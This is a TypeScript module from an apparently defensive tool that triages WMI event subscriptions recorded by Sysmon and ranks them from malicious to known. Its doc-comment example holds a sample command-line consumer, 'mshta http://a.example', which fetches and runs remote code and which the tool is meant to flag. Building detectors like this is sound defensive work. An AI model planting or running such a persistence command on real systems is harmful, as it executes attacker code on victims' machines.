import { asciiLowerCase } from '../../catalog';
import type { ExclusionManifest, ManifestEntry } from '../../exclusions';
import { detectionsOf } from '../detections/detections';
import type { BuiltInSubscription } from '../facts/built-in.data';
import { BUILT_IN_SUBSCRIPTIONS } from '../facts/built-in.data';
import type { Chain, FilterContent, Joining, JoinNote, JoinOptions, EventFile } from '../join';
import { joinEvents, sightingsOf } from '../join';
import { instantOf } from '../join/instant';
import type { PartlyListed } from '../join/listed';
import { partlyListed } from '../join/listed';
import { judgeChain } from '../judgements/chain/chain-judgements';
import type { KnownSubscription } from '../judgements/chain/judged-chain';
import type { Weight } from '../judgements/judgement';
import type { ChainNeighbours, NeighbourOptions } from '../neighbours';
import { NeighbourCollector } from '../neighbours';
import type { Payload } from '../payload/payload';
import { remembered } from '../remembered';
import { ChainIds } from './chain-id';
import { chainPayload, payloadFindings } from './chain-payload';
import { earlierPayloads } from './earlier-payloads';
import { HostCounts } from './host-counts';
import { levelOf } from './levels';
import { readQuery } from '../wql/read-query';
import { Standings } from './standing';
import type { Confidence, SubscriptionFinding, Level, TriagedChain, TriageReport } from './triaged';
import { volumeOf } from './volume';

/** How to judge recorded subscriptions. */
export interface TriageOptions extends JoinOptions {
  /** The day on which entries of the manifest have to be in force, YYYY-MM-DD. */
  readonly today: string;
  /** Verified subscriptions; those that have expired too. */
  readonly manifest?: ExclusionManifest;
  /** Accounts that are known to make subscriptions: names with or without domain, and SIDs, in any case. */
  readonly serviceAccounts?: readonly string[];
}

/** What is found of a chain, and takes much memory. */
interface Details extends Pick<TriagedChain, 'query' | 'earlier' | 'events' | 'moreEvents' | 'detections'> {
  readonly payload: Payload | null;
  readonly inPayload: readonly SubscriptionFinding[];
  readonly inRest: readonly SubscriptionFinding[];
}

/** What chains are judged by. */
interface Judging {
  readonly ids: ChainIds;
  readonly standings: Standings;
  readonly detailsOf: (chain: Chain) => Details;
}

/** Of so many chains what was found is kept: few recordings have more, and those of 100,000 would not fit into memory. */
const KEPT_WHOLE = 500;

/** The levels, worst first. */
export const LEVELS: readonly Level[] = ['malicious', 'suspicious', 'notable', 'known'];
const NO_NEIGHBOURS: ChainNeighbours = { listed: [], more: { before: 0, named: 0, active: 0, fired: 0 } };
const HEAVIEST_FIRST: readonly Weight[] = ['high', 'medium', 'low', 'base', 'information'];

/** Recorded subscriptions on the way to a report: joined first, so that events beside them can be looked for, then judged. */
export class Triage {
  readonly #options: TriageOptions;
  readonly #joining: Joining;
  readonly #partly: readonly JoinNote[];
  readonly #known: readonly KnownSubscription[];
  readonly #accounts: ReadonlySet<string>;

  /**
   * @param files - recorded events, as `readEvents` reads them
   * @param options - how to join and judge
   */
  constructor(files: readonly EventFile[], options: TriageOptions) {
    this.#options = options;
    const { manifest, serviceAccounts = [] } = options;
    this.#known = [...(manifest?.exclusions ?? []), ...BUILT_IN_SUBSCRIPTIONS].map(knownSubscription);
    this.#accounts = new Set(serviceAccounts.map(asciiLowerCase));
    this.#joining = joinEvents(files, options);
    this.#partly = partlyListed(files).map(partlyNote);
  }

  /**
   * Looks for the events around the chains: what made them, and what they set off.
   *
   * @param options - how far from a chain events count by their time alone
   * @returns what takes events one by one, to be handed to {@link Triage.report}
   */
  collector(options?: NeighbourOptions): NeighbourCollector {
    return new NeighbourCollector(this.#joining.chains, payloadOf, options);
  }

  /**
   * Judges all chains.
   *
   * @param around - the events around the chains, as a {@link Triage.collector} found them; none unless given
   * @returns the report
   */
  report(around?: NeighbourCollector): TriageReport {
    const { chains, more, duplicates, recorded, notes } = this.#joining;
    const { manifest, today } = this.#options;
    const neighbours = around?.neighbours() ?? [];
    const beside = new Map(chains.map((chain, index) => [chain, neighbours[index] ?? NO_NEIGHBOURS]));
    const besideOf = (chain: Chain): ChainNeighbours => beside.get(chain) ?? NO_NEIGHBOURS;
    const hosts = new HostCounts(chains);
    const by: Judging = {
      ids: new ChainIds(),
      standings: new Standings(manifest, today),
      detailsOf: remembered((chain: Chain) => this.#details(chain, { hosts, beside: besideOf(chain) }), KEPT_WHOLE),
    };
    const triaged = chains.map((chain) => this.#triaged(chain, by, besideOf(chain)));
    const byLevel = LEVELS.map((level) => triaged.filter((one) => one.level === level));
    const [malicious = [], suspicious = [], notable = [], known = []] = byLevel;
    return {
      chains: byLevel.flat(),
      levels: {
        malicious: malicious.length,
        suspicious: suspicious.length,
        notable: notable.length,
        known: known.length,
      },
      more,
      duplicates,
      recorded,
      volume: volumeOf(recorded),
      notes: [...notes, ...this.#partly, ...(around?.notes() ?? [])],
    };
  }

  /** The level is found now; what it rests on is found again where it is asked for much later. */
  #triaged(chain: Chain, { ids, standings, detailsOf }: Judging, neighbours: ChainNeighbours): TriagedChain {
    const standing = standings.of(chain);
    const { inPayload, earlier, inRest } = detailsOf(chain);
    const found = earlier.flatMap(({ findings }) => findings);
    return {
      id: ids.of(chain),
      chain,
      ...levelOf({ chain, standing, payload: inPayload, earlier: found, rest: inRest }),
      standing,
      confidence: confidenceOf(chain),
      neighbours: neighbours.listed,
      moreNeighbours: neighbours.more,
      get query() {
        return detailsOf(chain).query;
      },
      get payload() {
        return detailsOf(chain).payload;
      },
      get earlier() {
        return detailsOf(chain).earlier;
      },
      get findings() {
        const { inPayload, inRest } = detailsOf(chain);
        return HEAVIEST_FIRST.flatMap((weight) => [...inPayload, ...inRest].filter((one) => one.weight === weight));
      },
      get events() {
        return detailsOf(chain).events;
      },
      get moreEvents() {
        return detailsOf(chain).moreEvents;
      },
      get detections() {
        return detailsOf(chain).detections;
      },
    };
  }

  #details(chain: Chain, { hosts, beside }: { readonly hosts: HostCounts; readonly beside: ChainNeighbours }): Details {
    const payload = payloadOf(chain);
    const query = chain.filter === null ? null : queryOf(chain.filter.content);
    const inPayload: readonly SubscriptionFinding[] = payload === null ? [] : payloadFindings(payload);
    const subject = {
      chain,
      query,
      payload,
      known: this.#known,
      hosts: hosts.of(chain),
      fired: firedTimes(beside),
      serviceAccounts: this.#accounts,
    };
    const inRest: readonly SubscriptionFinding[] = judgeChain(subject).map((finding) => ({ ...finding, layer: 0 }));
    const { listed: events, more: moreEvents } = sightingsOf(chain);
    const detections = detectionsOf(chain);
    return { query, payload, inPayload, inRest, earlier: earlierPayloads(chain), events, moreEvents, detections };
  }
}

/**
 * Joins and judges recorded events.
 *
 * @param files - recorded events, as `readEvents` reads them
 * @param options - how to join and judge
 * @returns every subscription that the events show, worst first
 * @throws TypeError if `today` is no day
 * @example
 * ```ts
 * import { readEvents } from 'sysmon-wmi';
 * import { triage } from 'lib/triage';
 * const read = readEvents('{"EventID":20,"Operation":"Created","Name":" \\"u\\"","Type":"Command Line","Destination":" \\"mshta http://a.example\\""}');
 * triage([{ ...read, name: 'events.jsonl' }], { today: '2026-11-25' }).chains[0]?.level; // 'malicious'
 * ```
 */
export function triage(files: readonly EventFile[], options: TriageOptions): TriageReport {
  return new Triage(files, options).report();
}

function knownSubscription({ id, filter, consumer }: BuiltInSubscription | ManifestEntry): KnownSubscription {
  return { id, filter: { ...filter, namespace: filter.namespace ?? null }, consumer };
}

/** When a chain set something off; what is only near in time says too little. */
function firedTimes({ listed }: ChainNeighbours): readonly number[] {
  return listed
    .filter(({ role, strength }) => role === 'fired' && strength !== 'weak')
    .flatMap(({ time }) => instantOf(time ?? undefined)?.at ?? []);
}

/** Filters that many bindings share are read once. */
const queryOf = remembered(({ query }: FilterContent) => readQuery(query));

function payloadOf({ consumer }: Chain): Payload | null {
  return consumer === null ? null : chainPayload(consumer.content);
}

function partlyNote({ part, name, why, host }: PartlyListed): JoinNote {
  const where = host === '' ? '' : ` on ${host}`;
  const message = `an inventory lists the ${part} "${name}"${where} in part: ${why}`;
  return { code: 'partly-listed', message, path: null, line: null };
}

function confidenceOf({ filter, consumer, binding }: Chain): Confidence {
  if (binding === null && filter !== null && consumer !== null) {
    return 'guessed';
  }
  return filter === null || consumer === null || binding === null ? 'partial' : 'complete';
}
